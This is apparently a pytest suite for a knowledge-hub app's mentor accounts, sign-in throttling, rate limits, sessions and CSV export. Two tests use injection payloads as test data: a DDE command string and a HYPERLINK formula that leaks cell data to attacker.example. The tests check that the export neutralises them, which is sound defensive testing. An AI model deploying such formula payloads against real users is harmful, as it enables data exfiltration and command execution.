"""Named mentor accounts, throttled sign-in and per-client limits, as library parts and through the CLI."""

from __future__ import annotations

import csv
import json
import sqlite3

import postgres_server
import pytest
from khub_cli import khub_cli

from khub.settings import Settings
from ui.accounts import AccountError, MentorAccounts
from ui.client_limits import ClientLimits, LimitExceeded, LimitSettings
from ui.throttle import SignInThrottle, TooManyAttempts

PASSWORD = "correct-horse-battery-staple"
# These run on a SQLite file and on a fresh PostgreSQL database (skipped without a server: tests/postgres_server.py).
review_database = pytest.fixture(params=postgres_server.BACKENDS)(postgres_server.review_database)


def test_passwords_are_stored_as_argon2_hashes_and_a_removed_mentor_cannot_sign_in(tmp_path):
    accounts = MentorAccounts(tmp_path / "reviews.sqlite")
    accounts.add("ana", PASSWORD)
    accounts.add("bo", "another long passphrase")
    stored = sqlite3.connect(tmp_path / "reviews.sqlite").execute("SELECT password_hash FROM mentors").fetchall()
    assert all(row[0].startswith("$argon2id$") and PASSWORD not in row[0] for row in stored)
    assert accounts.verify("ana", PASSWORD) and not accounts.verify("ana", "wrong password!!")
    assert not accounts.verify("nobody", PASSWORD)
    accounts.remove("ana")
    assert not accounts.verify("ana", PASSWORD)
    assert [m.name for m in accounts.list()] == ["bo"]
    assert [m.name for m in accounts.list(include_removed=True)] == ["ana", "bo"]  # kept, with its name


def test_account_mistakes_say_what_to_do(review_database):
    accounts = MentorAccounts(review_database)
    with pytest.raises(AccountError, match="at least 12"):
        accounts.add("ana", "short")
    with pytest.raises(AccountError, match="not usable"):
        accounts.add("ana; drop table", PASSWORD)
    accounts.add("ana", PASSWORD)
    with pytest.raises(AccountError, match="remove it first"):
        accounts.add("ana", PASSWORD)
    with pytest.raises(AccountError, match="khub mentor list"):
        accounts.remove("bo")


def test_the_environment_pair_bootstraps_only_the_first_account(review_database):
    accounts = MentorAccounts(review_database)
    assert accounts.bootstrap(("mentor", PASSWORD)) and accounts.verify("mentor", PASSWORD)
    accounts.remove("mentor")
    assert not accounts.bootstrap(("mentor", PASSWORD))  # a removed bootstrap account stays removed
    assert not accounts.verify("mentor", PASSWORD)


class Clock:
    def __init__(self):
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_ten_wrong_passwords_make_the_eleventh_attempt_wait_even_when_right():
    clock = Clock()
    throttle = SignInThrottle(free_attempts=10, delay=40, clock=clock)
    for _ in range(10):
        assert not throttle.attempt("ana", "10.0.0.9", lambda: False)
    with pytest.raises(TooManyAttempts, match=r"too many attempts; try again in 40 s"):
        throttle.attempt("ana", "10.0.0.9", lambda: True)
    with pytest.raises(TooManyAttempts):  # another client, same name: still waits
        throttle.attempt("ana", "10.0.0.10", lambda: True)
    assert throttle.attempt("bo", "10.0.0.10", lambda: True)  # another name from another client does not
    clock.now += 41
    assert throttle.attempt("ana", "10.0.0.9", lambda: True)


def test_the_waits_grow_with_each_further_failure():
    clock = Clock()
    throttle = SignInThrottle(free_attempts=2, delay=5, max_delay=15, clock=clock)
    throttle.attempt("ana", "c", lambda: False)
    waits = []
    for _ in range(4):
        throttle.attempt("ana", "c", lambda: False)
        with pytest.raises(TooManyAttempts) as caught:
            throttle.attempt("ana", "c", lambda: True)
        waits.append(caught.value.retry_after)
        clock.now += caught.value.retry_after + 0.5
    assert waits == [5, 10, 15, 15]  # doubling, up to the longest wait
    assert throttle.attempt("ana", "c", lambda: True)


def limits(**overrides) -> ClientLimits:
    config = dict(per_minute={"ask": 3, "diagnose": 3, "search": 5}, max_question_chars=100, answers_per_day=10,
                  trusted_proxies=())
    return ClientLimits(LimitSettings(**(config | overrides)))


def test_a_client_over_its_limit_is_told_when_to_retry_and_others_are_not_held():
    guard = limits()
    for _ in range(3):
        guard.check("ask", "10.0.0.1", "q")
    with pytest.raises(LimitExceeded, match=r"3 ask requests per minute per client; try again in \d+ s"):
        guard.check("ask", "10.0.0.1", "q")
    guard.check("ask", "10.0.0.2", "q")  # another client
    guard.check("search", "10.0.0.1", "q")  # another action has its own window
    with pytest.raises(LimitExceeded, match="101 characters; the limit is 100"):
        guard.check("search", "10.0.0.3", "x" * 101)


def test_limits_come_from_settings_with_sane_defaults():
    settings = Settings.from_env({"KHUB_ASK_PER_MINUTE": "4", "KHUB_TRUSTED_PROXIES": "10.0.0.0/8"})
    config = LimitSettings.from_settings(settings)
    assert config.per_minute == {"ask": 4, "diagnose": 30, "search": 120}
    assert config.trusted_proxies == ("10.0.0.0/8",) and config.max_question_chars > 1000


def test_khub_mentor_add_list_remove(tmp_path):
    khub = khub_cli(Settings(index_dir=tmp_path / "index"))
    added = khub("mentor", "add", "ana", "--password-stdin", input=PASSWORD + "\n")
    assert added.exit_code == 0 and "ana can now sign in" in added.output
    prompted = khub("mentor", "add", "bo", input="another long passphrase\nanother long passphrase\n")
    assert prompted.exit_code == 0, prompted.output
    assert khub("mentor", "remove", "bo").exit_code == 0
    listed = json.loads(khub("mentor", "list", "--all", "--json").output)
    assert [(m["name"], m["removed_at"] is None) for m in listed["mentors"]] == [("ana", True), ("bo", False)]
    short = khub("mentor", "add", "cy", "--password-stdin", input="short\n")
    assert short.exit_code == 1 and "at least 12" in short.output
    assert PASSWORD not in (tmp_path / "index" / "reviews.sqlite").read_bytes().decode("latin-1")


def test_a_session_ends_after_its_time_and_when_its_account_is_removed(review_database):
    from ui.mentor_session import MentorGate, SignInRefused

    clock = Clock()
    accounts = MentorAccounts(review_database)
    accounts.add("ana", PASSWORD)
    accounts.add("bo", "another long passphrase")
    gate = MentorGate(accounts, SignInThrottle(clock=clock), session_minutes=30, clock=clock)
    with pytest.raises(SignInRefused, match="Wrong user or password"):
        gate.sign_in("ana", "not her password", "10.0.0.1")
    ana, bo = gate.sign_in("ana", PASSWORD, "10.0.0.1"), gate.sign_in("bo", "another long passphrase", "10.0.0.2")
    assert gate.check(ana) == "ana" and gate.check(bo) == "bo"
    accounts.remove("bo")
    with pytest.raises(SignInRefused, match="was removed"):
        gate.check(bo)
    clock.now += 30 * 60
    with pytest.raises(SignInRefused, match="session has ended"):
        gate.check(ana)
    with pytest.raises(SignInRefused, match="Sign in"):
        gate.check(None)


def test_every_text_cell_of_the_export_is_spreadsheet_safe(tmp_path):
    from assistant.answer import Answer
    from ui.reviews import ReviewStore

    store = ReviewStore(tmp_path / "reviews.sqlite")
    for payload in ["=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain question"]:
        answer_id = store.record_answer(Answer(question=payload, query=payload, text="=1+1 answer", mode="extractive",
                                               refused=False, citations=()))
        store.review(answer_id, "incorrect", note="@note", reviewer="ana")
    rows = list(csv.DictReader(store.export_csv(tmp_path / "out.csv").open(encoding="utf-8", newline="")))
    assert {row["question"] for row in rows} == {"'=cmd|' /C calc'!A0", "'+1+1", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx",
                                                 "plain question"}
    assert {(row["answer"], row["review_note"], row["reviewer"]) for row in rows} == {("'=1+1 answer", "'@note", "ana")}


def test_suggestions_export_through_the_cli_is_spreadsheet_safe_too(tmp_path):
    from ui.suggestions import SuggestionStore

    settings = Settings(index_dir=tmp_path / "index")
    store = SuggestionStore(settings.index_dir / "reviews.sqlite")
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the fix")'
    store.add("qa/x", "+1+1 better body", title="@SUM(A1)", reason=formula, base_title="X", base_body="old body")
    exported = tmp_path / "suggestions.csv"
    result = khub_cli(settings)("review", "export", exported, "--suggestions")
    assert result.exit_code == 0, result.output
    [row] = list(csv.DictReader(exported.open(encoding="utf-8", newline="")))
    assert (row["reason"], row["body"], row["title"]) == ("'" + formula, "'+1+1 better body", "'@SUM(A1)")
